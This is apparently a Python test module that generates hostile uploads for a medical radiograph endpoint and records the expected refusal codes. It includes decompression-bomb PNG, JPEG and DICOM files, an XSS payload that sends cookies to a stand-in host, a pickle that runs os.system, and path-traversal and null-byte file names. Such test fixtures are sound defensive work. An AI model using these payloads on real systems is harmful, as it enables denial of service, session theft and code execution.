"""Files nobody should send: bombs, liars and cripples, each with the codes that are a right answer to it."""

from __future__ import annotations

import http.client
import io
import json
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any, Final
from urllib.parse import urlsplit

import numpy as np
import pydicom
from PIL import Image
from pydicom.dataset import FileMetaDataset
from pydicom.encaps import encapsulate
from pydicom.uid import DeflatedExplicitVRLittleEndian, RLELossless, generate_uid

from tests.radiographs import radiograph_dicom, radiograph_jpeg, radiograph_png

ACCEPTED: Final = "accepted"
MEGABYTE: Final = 2**20
SMALL: Final = (96, 96)
SIGNATURE: Final = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True)
class Hostile:
    """One file, under a name, and the endings that are right for it."""

    what: str
    content: bytes
    right: frozenset[str]
    name: str = "radiograph"


@dataclass(frozen=True)
class Reply:
    """What the upload endpoint answered: ACCEPTED or the code of a refusal."""

    status: int
    ending: str
    seconds: float = 0.0


def send(base_url: str, token: str, content: bytes, name: str = "radiograph", patient: str = "H-1") -> Reply:
    """Send a file as a script would, under any name whatever; urllib would tidy the name up."""
    head = f'--x\r\nContent-Disposition: form-data; name="patient_ref"\r\n\r\n{patient}\r\n--x\r\n'
    head += f'Content-Disposition: form-data; name="radiograph"; filename="{name}"\r\n\r\n'
    body = head.encode("utf-8", "surrogateescape") + content + b"\r\n--x--\r\n"
    at = urlsplit(base_url)
    line = http.client.HTTPConnection(at.hostname or "", at.port, timeout=120)
    headers = {"Authorization": f"Token {token}", "Content-Type": "multipart/form-data; boundary=x"}
    try:
        line.request("POST", "/api/v1/cases/", body, headers)
        answer = line.getresponse()
        return Reply(answer.status, _ending(answer.status, answer.read()))
    finally:
        line.close()


def _ending(status: int, body: bytes) -> str:
    said: dict[str, Any] = json.loads(body)
    if status in (200, 201):
        return ACCEPTED
    assert set(said) >= {"code", "detail"}, said
    return str(said["code"])


def specimens(*, inflated: int = 64 * MEGABYTE) -> Iterator[Hostile]:
    """Give one of each kind; `inflated` is how large the deflated ones become."""
    yield from _bombs(inflated)
    yield from _cripples()
    yield from _masks()
    yield from _names()


def _bombs(inflated: int) -> Iterator[Hostile]:
    many = "too_many_pixels"
    yield hostile("a PNG of 13,000 x 13,000 pixels", png(13_000, 13_000), many)
    yield hostile("a PNG of 2 billion by 2 billion", png(2**31 - 1, 2**31 - 1, rows=1), many, "damaged")
    yield hostile(
        "a PNG that holds far more than it says", png(96, 96, rows=inflated // 97), "damaged", "blank"
    )
    yield hostile("a PNG with a text that inflates", _text_bomb(inflated), "damaged", ACCEPTED)
    yield hostile("a JPEG of 65,500 x 65,500 pixels", _huge_jpeg(), many, "damaged")
    yield hostile("a deflated DICOM", deflated_dicom(inflated), "deflated_dicom")
    yield hostile("an RLE DICOM of 60,000 x 60,000", rle_dicom(60_000, 60_000), many)
    yield hostile("an RLE DICOM of 6,000 x 6,000 and no data", rle_dicom(6_000, 6_000), "damaged", "blank")
    yield hostile(
        "a DICOM of 6,000 x 6,000 and no data",
        radiograph_dicom(1, SMALL, Rows=6_000, Columns=6_000),
        "damaged",
    )
    nested = (
        radiograph_dicom(1, SMALL)[:-4]
        + b"\x08\x00\x40\x11SQ\0\0\xff\xff\xff\xff\xfe\xff\x00\xe0\xff\xff\xff\xff" * 9_000
    )
    yield hostile("a DICOM of sequences within sequences", nested, "damaged", "no_pixels", ACCEPTED)
    yield hostile("70 MB", radiograph_png(1, SMALL) + bytes(70 * MEGABYTE), "too_large")


def _cripples() -> Iterator[Hostile]:
    yield hostile("nothing", b"", "empty_file")
    for kind, radiograph in (
        ("PNG", radiograph_png(2)),
        ("JPEG", radiograph_jpeg(2)),
        ("DICOM", radiograph_dicom(2)),
    ):
        for share in (0.02, 0.3, 0.9):
            cut = radiograph[: int(len(radiograph) * share)]
            # A JPEG lacks only its last rows then, and some writers forget the end; the decoder says which.
            yield hostile(
                f"{share:.0%} of a {kind}",
                cut,
                "damaged",
                "unknown_format",
                "no_pixels",
                "unsupported_encoding",
            )
    yield hostile("a DICOM of three frames", radiograph_dicom(3, SMALL, NumberOfFrames=3), "multi_frame")
    yield hostile("an animated PNG", _animated(), "animated")
    yield hostile("a white PNG", png(96, 96, rows=96), "blank")
    yield hostile("a PNG of 8 x 8", radiograph_png(1, (8, 8)), "too_small")
    yield hostile("a CT slice", radiograph_dicom(1, SMALL, modality="CT"), "not_an_xray_modality")


def _masks() -> Iterator[Hostile]:
    script = b"<script>fetch('//evil.example/'+document.cookie)</script>"
    for what, head in (
        ("an SVG", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("an HTML page", b"<!doctype html>" + script),
        ("a GIF", b"GIF89a/*" + script),
        ("a PDF", b"%PDF-1.7\n" + script),
        ("a TIFF", b"II*\0" + bytes(64)),
        ("a pickle", b"\x80\x04cos\nsystem\n(S'id'\ntR."),
        ("a ZIP", b"PK\x03\x04" + bytes(200)),
    ):
        yield hostile(what, head, "unknown_format")
    # Sound radiographs that are something else as well: taken in, and only our own copy is ever shown.
    yield hostile("a PNG with a page behind it", radiograph_png(4) + script, ACCEPTED)
    yield hostile("a JPEG with a page behind it", radiograph_jpeg(5) + script, ACCEPTED)
    page = b"<html>" + script
    yield hostile("a DICOM with a page before it", page + radiograph_dicom(6)[len(page) :], ACCEPTED)
    yield hostile("a DICOM that begins as a JPEG", b"\xff\xd8\xff" + radiograph_dicom(7)[3:], "damaged")
    yield hostile("a DICOM that begins as a PNG", SIGNATURE + radiograph_dicom(7)[8:], "damaged")


def _names() -> Iterator[Hostile]:
    names = (
        *("../../../../etc/cron.d/x", "..\\..\\x.png", "/etc/passwd", "a\tb\x07.png", "x" * 5_000, ".", ".."),
        *(
            "con.png",
            "radiograph.png%00.html",
            "<img src=x onerror=alert(1)>.png",
            "\u202egnp.exe",
            "CANARY-NAME.png",
        ),
    )
    for number, name in enumerate(names):
        # Django finds no file in a part without a name, and reads no part whose head is too long.
        yield Hostile(
            f"the name {name[:30]!r}",
            radiograph_png(100 + number),
            frozenset({ACCEPTED, "invalid", "parse_error"}),
            name,
        )


def png(width: int, height: int, *, rows: int | None = None) -> bytes:
    """Write a white grey PNG by hand; `rows` is how many there really are."""
    deflate = zlib.compressobj(9)
    row, packed = b"\0" + b"\xff" * min(width, 13_000), bytearray()
    for _ in range(height if rows is None else rows):
        packed += deflate.compress(row)
    packed += deflate.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return SIGNATURE + _chunk(b"IHDR", header) + _chunk(b"IDAT", bytes(packed)) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _zeros(count: int) -> bytes:
    deflate = zlib.compressobj(9, wbits=-15)
    piece = bytes(MEGABYTE)
    return b"".join(deflate.compress(piece) for _ in range(count // MEGABYTE)) + deflate.flush()


def _text_bomb(inflated: int) -> bytes:
    radiograph, text = radiograph_png(9, SMALL), zlib.compress(bytes(inflated), 9)
    return (
        radiograph[:33]
        + _chunk(b"zTXt", b"Comment\0\0" + text)
        + _chunk(b"iCCP", b"icc\0\0" + text)
        + radiograph[33:]
    )


def _huge_jpeg() -> bytes:
    radiograph = bytearray(radiograph_jpeg(1, SMALL))
    at = radiograph.index(b"\xff\xc0")
    radiograph[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    return bytes(radiograph)


def deflated_dicom(inflated: int) -> bytes:
    """Give a DICOM file of a few hundred kilobytes whose data set is that large."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.1.1"
    meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=["bomb"])
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    out = io.BytesIO()
    out.write(bytes(128) + b"DICM")
    pydicom.filewriter.write_file_meta_info(out, meta)
    return out.getvalue() + _zeros(inflated)


def rle_dicom(rows: int, columns: int) -> bytes:
    """Give an RLE DICOM whose header promises that many pixels and whose data holds none."""
    radiograph = pydicom.dcmread(io.BytesIO(radiograph_dicom(1, SMALL)))
    radiograph.file_meta.TransferSyntaxUID = RLELossless
    radiograph.PixelData = encapsulate([struct.pack("<16I", 2, 64, 66, *[0] * 13) + b"\x81\0\x81\0"])
    radiograph["PixelData"].VR = "OB"
    radiograph.Rows, radiograph.Columns = rows, columns
    out = io.BytesIO()
    radiograph.save_as(out)
    return out.getvalue()


def _animated() -> bytes:
    frames = [Image.fromarray(np.full(SMALL, level, np.uint8)) for level in (10, 200)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def hostile(what: str, content: bytes, *right: str) -> Hostile:
    """Describe one file by its content and the right endings."""
    return Hostile(what, content, frozenset(right))
